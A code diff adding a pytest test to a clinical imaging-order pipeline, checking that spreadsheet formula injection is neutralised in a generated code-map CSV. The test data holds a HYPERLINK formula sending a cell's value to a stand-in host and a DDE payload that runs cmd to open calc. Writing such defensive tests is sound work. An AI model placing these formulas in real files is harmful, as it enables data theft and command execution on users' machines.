@@ -23,6 +23,7 @@ import polars as pl
 import pytest
 from conftest import DX_HEADER, ORDER_HEADER, PROC_HEADER, run_cli, write_csv, write_small_input
 
+from pipeline import formula_guard
 from pipeline.ingest.contract import CONTRACT_BY_NAME, CONTRACTS
 
 PROC_HEADER_X = [*PROC_HEADER, "needle_gauge", "attempts"]
@@ -1028,3 +1029,32 @@ def test_an_id_moved_by_an_unquoted_delimiter_is_not_shown(tmp_path, small_input
     out = _run_showing_nothing_of(tmp_path, small_input, "MRN-2")
     line6 = _rejects(out).filter((pl.col("table_name") == "imaging_orders") & (pl.col("source_line") == "6"))
     assert line6.select("column_name", "value", "action").rows() == [("ordered_at", None, "row_rejected")]
+
+
+def test_the_starter_code_map_holds_no_live_formula_and_is_read_back_as_written(tmp_path, small_input):
+    """inspect --write-config copied an order code `=HYPERLINK(...)` and its order name `@SUM(...)` from the
+    extract into local_code_map.csv as they were: live formulas in the file a person opens in a spreadsheet to
+    fill in. They are neutralised there, and a run reads the filled-in row back as the code the orders hold."""
+    rows = [[*row, "MRI"] for row in csv.reader((small_input / "imaging_orders.csv").open(encoding="utf-8"))][1:]
+    code = '=HYPERLINK("HTTP://X.INVALID/?"&A1)'
+    rows.append(["O5", "MRN-2", "2025-06-06 10:00:00", code, "Emergency", "G97.1", "completed", "@SUM(1+1)*cmd|' /C calc'!A0"])
+    write_csv(small_input / "imaging_orders.csv", [*ORDER_HEADER, "order_name"], rows)
+    site = tmp_path / "site"
+    site.mkdir()
+    r = run_cli("inspect", "--input", small_input, "--write-config", site / "site.toml")
+    assert r.returncode == 0, r.stderr
+    with (site / "local_code_map.csv").open(newline="", encoding="utf-8") as fh:
+        template = list(csv.DictReader(fh))
+    assert not [v for row in template for v in row.values() if formula_guard.starts_formula(v)], template
+    (row,) = template
+    assert (row["code"], row["description"]) == ("'" + code, "'@SUM(1+1)*cmd|' /C calc'!A0")
+    row |= {"study_type": "mri_spine", "modality": "MR", "regions": "CTL", "contrast": "without_and_with"}
+    with (small_input / "local_code_map.csv").open("w", newline="", encoding="utf-8") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(row))
+        writer.writeheader()
+        writer.writerow(row)
+    out = tmp_path / "out"
+    r = run_cli("run", "--input", small_input, "--out", out, "--no-validate", "--quiet")
+    assert r.returncode == 0, r.stderr
+    audited = pl.read_parquet(out / "csf_leak" / "audited_orders.parquet").filter(pl.col("order_id") == "O5")
+    assert audited.select("order_code", "study_type", "regions").rows() == [(code, "mri_spine", "CTL")]
